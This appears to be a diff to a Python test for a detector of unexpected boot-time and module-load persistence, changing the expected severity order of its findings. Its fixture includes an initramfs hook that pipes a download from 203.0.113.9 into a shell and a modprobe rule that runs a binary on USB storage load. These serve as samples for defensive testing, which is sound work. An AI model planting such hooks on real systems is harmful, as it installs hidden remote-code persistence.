@@ -15,7 +15,7 @@ def test_a_start_that_nobody_sets_up() -> None:
         put("boot", "/etc/initramfs-tools/hooks/x", "#!/bin/sh\ncurl http://203.0.113.9 | sh\n", mode=0o755),
         put("modules", "/etc/modprobe.d/x.conf", "install usb-storage /usr/local/bin/x\n"),
     )
-    assert [s for s, _ in found(CHECK, survey(files=files))] == ["medium", "critical", "high"]
+    assert [s for s, _ in found(CHECK, survey(files=files))] == ["critical", "medium", "medium"]
     late = BootFile(path="/boot/initrd.img-6.1.0", changed_at=NEW)
     assert found(CHECK, survey(boot=(late,), packages_changed_at=OLD)) == [("low", late.path)]
 
